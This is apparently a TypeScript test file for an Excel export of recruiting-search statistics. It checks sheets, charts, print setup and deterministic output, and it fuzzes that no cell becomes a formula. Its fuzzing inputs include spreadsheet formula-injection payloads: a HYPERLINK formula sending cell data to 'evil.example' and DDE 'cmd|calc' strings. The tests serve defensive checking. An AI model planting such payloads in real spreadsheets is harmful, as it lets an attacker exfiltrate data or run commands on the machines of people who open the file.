import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { DIMENSIONS } from '../../../../../src/capabilities/rediscovery/search/fields.js';
import type { Insights } from '../../../../../src/capabilities/rediscovery/search/insights.js';
import { drawWorkbook } from '../../../../../src/capabilities/rediscovery/search/workbook/draw-workbook.js';
import {
  type InsightsAbout,
  insightsReport,
} from '../../../../../src/capabilities/rediscovery/search/workbook/insights-report.js';
import { about, dimension, insightsOf } from './insights-builders.ts';
import { attributes, elements, parse, type ReadSheet, readWorkbook } from './read-workbook.ts';

const draw = (insights: Insights, over: Partial<InsightsAbout> = {}) =>
  drawWorkbook(insightsReport(insights, about(over)));
const textsOf = ({ cells }: ReadSheet) =>
  [...cells.values()].filter(({ type }) => type === 's').map(({ text }) => text);
const cell = (sheet: ReadSheet | undefined, place: string) => sheet?.cells.get(place)?.text;

describe('RED-10: the workbook of Insights', () => {
  it('has a summary, and a sheet with its table for each dimension', () => {
    const { sheets } = readWorkbook(
      draw(
        insightsOf(
          1_200,
          dimension('skill', { Go: 600, C: 300 }, { missing: 300 }),
          dimension('years', { '3-5': 1_200 }),
        ),
        {
          query: 'title:engineer',
          among: 'Ours',
        },
      ),
    );
    expect(sheets.map(({ name }) => name)).toEqual(['Summary', 'skill', 'years']);
    const [summary, skill, years] = sheets;
    expect(textsOf(summary as ReadSheet)).toEqual(
      expect.arrayContaining(['Searched for', 'title:engineer', 'Ours', '2026-03-04 05:06 UTC', 'Go', '3-5']),
    );
    expect(attributes(summary?.xml ?? '', 'hyperlink').map(({ location }) => location)).toEqual([
      "'skill'!A1",
      "'years'!A1",
    ]);
    const rows = [5, 6, 7].map((row) => ['A', 'B', 'C'].map((column) => cell(skill, `${column}${row}`)));
    expect(rows).toEqual([
      ['Go', '600', '0.5'],
      ['C', '300', '0.25'],
      ['Not stated', '300', '0.25'],
    ]);
    expect(cell(years, 'A5')).toBe('under 1');
  });

  it('has a chart for each dimension that has values, over the cells of its table', () => {
    const { charts, sheets, parts } = readWorkbook(
      draw(
        insightsOf(9, dimension('skill', { Go: 6, C: 3 }), dimension('years', { '3-5': 9 }), dimension('honor', {})),
      ),
    );
    expect(charts.map((chart) => elements(chart, 'c:f'))).toEqual([
      ['skill!$A$5:$A$6', 'skill!$B$5:$B$6'],
      ['years!$A$5:$A$11', 'years!$B$5:$B$11'],
    ]);
    expect(charts.map((chart) => attributes(chart, 'c:barDir')[0])).toEqual([{ val: 'bar' }, { val: 'col' }]);
    // Bars in the order of the rows; columns from left to right.
    expect(charts.map((chart) => attributes(chart, 'c:orientation')[0])).toEqual([
      { val: 'maxMin' },
      { val: 'minMax' },
    ]);
    expect(sheets.map(({ xml }) => attributes(xml, 'drawing').length)).toEqual([0, 1, 1, 0]);
    expect(Object.keys(parts).filter((name) => name.includes('drawings/drawing'))).toHaveLength(2);
  });

  it('charts no more values than can be told apart, and has them all in its table', () => {
    const counts = Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`Skill ${index}`, 500 - index]));
    const { charts, sheets } = readWorkbook(draw(insightsOf(900, dimension('skill', counts))));
    expect(elements(charts[0] ?? '', 'c:f')[0]).toBe('skill!$A$5:$A$29');
    expect(cell(sheets[1], 'A104')).toBe('Skill 99');
  });

  it('prints one page wide, with its header on each page and the number of the page below', () => {
    const { sheets, parts } = readWorkbook(
      draw(insightsOf(9, dimension('skill', { Go: 9 })), { paper: 'LETTER', brand: '3 & B' }),
    );
    for (const { xml } of sheets) {
      expect(attributes(xml, 'pageSetup')[0]).toMatchObject({ orientation: 'landscape', paperSize: '1' });
      expect(attributes(xml, 'pageSetUpPr')[0]).toEqual({ fitToPage: '1' });
      expect(elements(xml, 'oddFooter')).toEqual(['&L&8 3 && B&C&8&A&R&8Page &P of &N']);
    }
    expect(elements(parts['xl/workbook.xml'] ?? '', 'definedName')).toContain('skill!$4:$4');
    expect(attributes(sheets[1]?.xml ?? '', 'pane')[0]).toMatchObject({ state: 'frozen', topLeftCell: 'A5' });
  });

  it('is the same, byte for byte, for the same counts and time', () => {
    const counted = insightsOf(9, dimension('skill', { Go: 9 }));
    expect(Buffer.compare(draw(counted), draw(counted))).toBe(0);
    const { parts } = readWorkbook(draw(counted));
    expect(elements(parts['docProps/core.xml'] ?? '', 'dcterms:created')).toEqual(['2026-03-04T05:06:07Z']);
  });

  it('says that small groups are hidden', () => {
    const { sheets } = readWorkbook(
      draw(insightsOf(9, dimension('diversity', { Veteran: 9 }, { missing: null, hidesSmallGroups: true }))),
    );
    expect(cell(sheets[1], 'A3')).toContain('so that nobody can be recognized');
    expect(['A6', 'B6', 'C6'].map((place) => cell(sheets[1], place))).toEqual(['Not stated', 'hidden', undefined]);
  });
});

describe('RED-10: no text of a workbook is a formula', () => {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: what XML cannot hold
  const FORBIDDEN = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/u;
  const nasty = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.string({ unit: 'grapheme', maxLength: 60 }),
    fc
      .tuple(
        fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' =', "'=", '"=', '＝', '%', '|', '\u200e='),
        fc.string(),
      )
      .map(([start, rest]) => start + rest),
    fc.constantFrom(
      '=HYPERLINK("http://evil.example?x="&A1,"click")',
      "=cmd|' /C calc'!A0",
      '@SUM(1+1)*cmd|calc',
      '\ud800',
      'a\udfffb',
      '</t></si><si><t>',
      '<![CDATA[x]]>',
      '&amp;&#0;',
      '_x0041__x003D_1+1',
      '\u0000\u000b\u001f\ufffe\uffff',
      'http://evil.example',
      'x'.repeat(40_000),
      `=${'9'.repeat(40_000)}`,
      '\u202e=1+1',
      '',
    ),
  );

  it('whatever was typed or comes from an ATS', () => {
    fc.assert(
      fc.property(
        fc.record({
          labels: fc.array(nasty, { minLength: 1, maxLength: 12 }),
          query: nasty,
          brand: nasty,
          name: nasty,
          fields: fc.subarray(
            DIMENSIONS.map(({ name }) => name),
            { minLength: 1, maxLength: 2 },
          ),
        }),
        ({ labels, query, brand, name, fields }) => {
          const values = labels.map((label, index) => ({ key: `k${index}`, label, count: labels.length - index }));
          const dimensions = fields.map((field) =>
            dimension(field, {}, { label: name, values, distinct: values.length }),
          );
          const filters = [{ field: 'skill', anyOf: labels }];
          const book = readWorkbook(draw(insightsOf(50, ...dimensions), { query, brand, filters, among: name }));
          expect(new Set(book.sheets.map((sheet) => sheet.name.toLowerCase())).size).toBe(fields.length + 1);
          for (const { name: sheetName, xml, cells } of book.sheets) {
            expect(sheetName).toMatch(/^(?!')[^[\]:*?/\\]{1,31}(?<!')$/);
            expect(attributes(xml, 'f')).toEqual([]);
            for (const { type, text } of cells.values()) {
              expect(['s', 'n']).toContain(type);
              if (type === 's') expect(text).not.toMatch(/^[\s"]*[=+\-@＝＋－＠|%\t\r\n]/u);
              expect(text.length).toBeLessThanOrEqual(32_767);
              expect(text.isWellFormed()).toBe(true);
            }
            for (const footer of elements(xml, 'oddFooter')) expect(footer.length).toBeLessThanOrEqual(255);
          }
          for (const [part, xml] of Object.entries(book.parts)) {
            expect(() => parse(xml, {}), part).not.toThrow();
            expect(FORBIDDEN.test(xml), part).toBe(false);
            if (part.endsWith('.rels'))
              expect(attributes(xml, 'Relationship').filter((found) => 'TargetMode' in found)).toEqual([]);
          }
        },
      ),
      { numRuns: 60 },
    );
  }, 60_000);
});
